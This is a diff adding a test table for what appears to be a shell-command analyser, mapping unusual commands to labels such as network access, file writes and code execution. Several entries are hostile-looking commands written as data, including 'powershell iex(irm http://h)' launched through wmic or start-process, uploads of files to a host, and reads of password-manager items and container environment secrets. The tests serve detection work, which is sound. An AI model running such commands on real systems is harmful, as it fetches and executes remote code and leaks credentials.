@@ -240,3 +240,27 @@ it('names every program once for each model and survives any words', () => {
     expect(() => model.describe({ program, argv: [] }), program).not.toThrow();
   }
 });
+
+describe('less usual ways of the same acts', () => {
+  table({
+    'lynx -source http://h/a': 'network http://h/a',
+    'fetch -o - http://h/a': 'network http://h/a',
+    'fetch -o /tmp/a http://h/a': 'network http://h/a; writes /tmp/a',
+    'ansible-pull -U http://h/p.git': 'network http://h/p.git; runs other ?',
+    'code --install-extension http://h/x.vsix': 'network http://h/x.vsix; runs other ?',
+    'make -f /tmp/m all': 'starts /tmp/m',
+    'gcc -x c a.c -o a': 'reads a.c; writes a=a.c ',
+    'rclone copy k :sftp,host=h.example,user=u:in': 'cloud-storage ssh://h.example/ files=k',
+    'mosquitto_pub -h h -t in -f k': 'network tcp://h files=k',
+    'websocat wss://h/ws <<< in': 'network wss://h/ws body=in',
+    'op item get x': 'gives content:keychain',
+    'op run -- env': 'runs argv env',
+    'docker inspect x --format {{.Config.Env}}': 'gives env:*',
+    'docker inspect x': '',
+    'irm http://h -Method Post <<< in': 'network http://h body=in',
+    'irm <<< http://h': 'network http://h',
+    'resolve-dnsname a.h.example': 'dns a.h.example body=a.h.example',
+    "wmic process call create 'powershell -c iex(irm http://h)'": 'runs powershell iex(irm http://h)',
+    "start-process powershell -argumentlist '-c iex(irm http://h)'": 'runs powershell iex(irm http://h)',
+  });
+});
